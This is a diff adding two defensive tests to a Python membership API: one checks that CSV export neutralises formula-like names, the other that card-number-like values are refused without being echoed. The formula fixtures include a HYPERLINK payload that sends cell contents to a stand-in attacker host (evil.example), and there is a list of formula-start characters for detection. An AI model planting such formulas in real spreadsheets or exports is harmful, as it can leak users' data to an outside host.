@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import json
+
 from ledgerlink.identity.roles import Role
 from ledgerlink.store.db import Database
 from tests.support.members import HEADER
@@ -180,3 +184,72 @@ def test_a_viewer_reads_but_cannot_import(client, db: Database) -> None:
         headers=headers,
     )
     assert response.status_code == 403
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)")
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_members_named_like_formulas_are_exported_as_text_and_read_back_unchanged(
+    client, db: Database
+) -> None:  # type: ignore[no-untyped-def]
+    headers = _auth(db)
+    _level(client, headers)
+    for number, name in enumerate(FORMULAS, start=1):
+        created = client.post(
+            "/api/v1/members",
+            json={
+                "member_number": f"M{number}",
+                "first_name": name,
+                "last_name": name,
+                "organisation": name,
+                "membership_level": "standard",
+            },
+            headers=headers,
+        )
+        assert created.status_code == 201, created.text
+    exported = client.get("/api/v1/members/export", headers=headers)
+    header, *rows = csv.reader(io.StringIO(exported.text))
+    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_START)] == []
+    first_names = [row[header.index("first_name")] for row in rows]
+    assert first_names == ["'" + name for name in FORMULAS]
+    again = client.post(
+        "/api/v1/members/import",
+        files={"file": ("again.csv", exported.content, "text/csv")},
+        headers=headers,
+    ).json()
+    assert (again["created"], again["updated"], again["unchanged"]) == (0, 0, 4)
+    assert client.get("/api/v1/members/M1", headers=headers).json()["first_name"] == FORMULAS[0]
+
+
+def test_card_numbers_in_member_fields_are_refused_naming_each_field(client, db: Database) -> None:  # type: ignore[no-untyped-def]
+    headers = _auth(db)
+    _level(client, headers)
+    response = client.post(
+        "/api/v1/members",
+        json={
+            "member_number": "M1",
+            "first_name": "Jane",
+            "last_name": "Doe 4111.1111.1111.1111",
+            "address_line1": "4111/1111/1111/1111",
+            "membership_level": "standard",
+        },
+        headers=headers,
+    )
+    assert response.status_code == 422
+    errors = response.json()["errors"]
+    assert {e["field"] for e in errors} == {"last_name", "address_line1"}
+    assert all("card number" in e["message"] for e in errors)
+    assert "4111" not in response.text
+    rows = [
+        "M00001,4111_1111_1111_1111,Doe,,,,personal,standard,active,,,,,,",
+        "M00002,John,Smith,,,,personal,standard,active,,,,,,",
+    ]
+    imported = client.post(
+        "/api/v1/members/import",
+        files={"file": ("m.csv", "\n".join([HEADER, *rows]).encode(), "text/csv")},
+        headers=headers,
+    ).json()
+    assert (imported["created"], imported["rejected"]) == (1, 1)
+    assert [(e["line"], e["field"]) for e in imported["errors"]] == [(2, "first_name")]
+    assert "4111" not in json.dumps(imported)
